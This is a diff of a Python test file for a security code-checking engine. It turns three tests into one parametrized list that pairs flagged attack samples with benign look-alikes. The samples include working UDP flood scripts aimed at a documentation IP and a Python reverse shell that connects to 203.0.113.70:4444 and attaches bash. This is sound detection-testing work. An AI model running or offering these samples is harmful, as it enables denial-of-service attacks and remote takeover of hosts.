@@ -1000,46 +1000,42 @@ def test_argument_shapes_leave_look_alikes_alone(argv):
     assert behaviour.command_shapes(argv) == []
 
 
-def test_a_loop_over_the_cells_endless_generator_of_packets_is_one_target(engine):
-    """Items of a generator that makes packets up in a ``while True`` are no crawl of a list: the workers that
-    loop over it flood one host. A generator of hosts read from a file gives one probe per host."""
-    flood = ("import socket, threading, random, os\nHOST = '203.0.113.45'\ndef packets():\n"
-             "    junk = [os.urandom(1200) for _ in range(8)]\n    while True:\n"
-             "        yield random.choice(junk), (HOST, random.choice((53, 123, 443)))\n"
-             "def worker():\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
-             "    for i, (data, dst) in enumerate(packets()):\n        s.sendto(data, dst)\n"
-             "for n in range(96):\n    threading.Thread(target=worker, daemon=True).start()")
-    verdict = engine.check_code(flood)
-    assert "dos_attack.flood-shape" in {f.rule for f in verdict.findings}, verdict.to_dict()
-    probes = ("import socket, threading\ndef probes():\n    for line in open('my_servers.txt'):\n"
-              "        yield b'status', (line.strip(), 9999)\n"
-              "def worker():\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
-              "    for data, dst in probes():\n        s.sendto(data, dst)\n"
-              "for n in range(8):\n    threading.Thread(target=worker, daemon=True).start()")
-    assert engine.check_code(probes).action == "allow"
+
+# (what the shape reads, the rule whose shape it is, the positive, the look-alike that stays allowed)
+SHAPE_RULE_PAIRS = [
+    ("a loop over the cell's endless generator of packets is one target; a generator of hosts from a file gives "
+     "one probe per host", "dos_attack.flood-shape",
+     "import socket, threading, random, os\nHOST = '203.0.113.45'\ndef packets():\n"
+     "    junk = [os.urandom(1200) for _ in range(8)]\n    while True:\n"
+     "        yield random.choice(junk), (HOST, random.choice((53, 123, 443)))\n"
+     "def worker():\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
+     "    for i, (data, dst) in enumerate(packets()):\n        s.sendto(data, dst)\n"
+     "for n in range(96):\n    threading.Thread(target=worker, daemon=True).start()",
+     "import socket, threading\ndef probes():\n    for line in open('my_servers.txt'):\n"
+     "        yield b'status', (line.strip(), 9999)\n"
+     "def worker():\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
+     "    for data, dst in probes():\n        s.sendto(data, dst)\n"
+     "for n in range(8):\n    threading.Thread(target=worker, daemon=True).start()"),
+    ("a sweep of random ports started again without end floods one host; a generator of each port once is a scan",
+     "dos_attack.flood-shape",
+     "import socket, random, os\nHOST = '203.0.113.45'\ndef ports():\n    while True:\n"
+     "        yield random.randint(1, 65535)\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
+     "junk = os.urandom(1400)\nfor p in ports():\n    s.sendto(junk, (HOST, p))",
+     "import socket\nHOST = '10.0.0.5'\ndef ports():\n    for p in range(1, 1025):\n        yield p\n"
+     "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nfor p in ports():\n    s.sendto(b'ping', (HOST, p))"),
+    ("descriptors duplicated through partial(os.dup2, fd) with fd = s.fileno() wire a shell to the connection; "
+     "the same done to a log file starts no remote shell", "remote_desktop_ssh.reverse-shell",
+     "import socket, os, pty\nfrom functools import partial\ns = socket.socket()\n"
+     "s.connect(('203.0.113.70', 4444))\nfd = s.fileno()\nlist(map(partial(os.dup2, fd), (0, 1, 2)))\n"
+     "pty.spawn('/bin/bash')",
+     "import os, pty\nfrom functools import partial\nlog = open('session.log', 'w')\nfd = log.fileno()\n"
+     "list(map(partial(os.dup2, fd), (1, 2)))\npty.spawn('/bin/bash')"),
+]
 
 
-def test_descriptors_duplicated_through_a_partial_or_a_bound_fileno_are_a_remote_shell(engine):
-    """``map(partial(os.dup2, fd), (0, 1, 2))`` with ``fd = s.fileno()`` wires a shell to the connection as
-    ``os.dup2(s.fileno(), 0)`` does; the same done to a log file starts no remote shell."""
-    shell = ("import socket, os, pty\nfrom functools import partial\ns = socket.socket()\n"
-             "s.connect(('203.0.113.70', 4444))\nfd = s.fileno()\nlist(map(partial(os.dup2, fd), (0, 1, 2)))\n"
-             "pty.spawn('/bin/bash')")
-    verdict = engine.check_code(shell)
-    assert "remote_desktop_ssh.reverse-shell" in {f.rule for f in verdict.findings}, verdict.to_dict()
-    logged = ("import os, pty\nfrom functools import partial\nlog = open('session.log', 'w')\nfd = log.fileno()\n"
-              "list(map(partial(os.dup2, fd), (1, 2)))\npty.spawn('/bin/bash')")
-    assert engine.check_code(logged).action == "allow"
-
-
-def test_a_sweep_of_ports_that_starts_again_without_end_is_a_flood_a_single_sweep_is_a_scan(engine):
-    """``for p in ports()`` over a generator that yields random ports in ``while True`` floods one host whatever
-    port each packet takes; a generator that yields each port once is a scan, one probe per port."""
-    flood = ("import socket, random, os\nHOST = '203.0.113.45'\ndef ports():\n    while True:\n"
-             "        yield random.randint(1, 65535)\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
-             "junk = os.urandom(1400)\nfor p in ports():\n    s.sendto(junk, (HOST, p))")
-    verdict = engine.check_code(flood)
-    assert "dos_attack.flood-shape" in {f.rule for f in verdict.findings}, verdict.to_dict()
-    scan = ("import socket\nHOST = '10.0.0.5'\ndef ports():\n    for p in range(1, 1025):\n        yield p\n"
-            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nfor p in ports():\n    s.sendto(b'ping', (HOST, p))")
-    assert "dos_attack.flood-shape" not in {f.rule for f in engine.check_code(scan).findings}
+@pytest.mark.parametrize("name,rule,bad,good", SHAPE_RULE_PAIRS, ids=[p[0][:60] for p in SHAPE_RULE_PAIRS])
+def test_the_shape_names_its_rule_and_the_look_alike_is_allowed(engine, name, rule, bad, good):
+    """Asserts the shape's own rule, not only a flag (which the word model or a text rule could give)."""
+    verdict = engine.check_code(bad)
+    assert rule in {f.rule for f in verdict.findings}, (name, verdict.to_dict())
+    assert engine.check_code(good).action == "allow", name
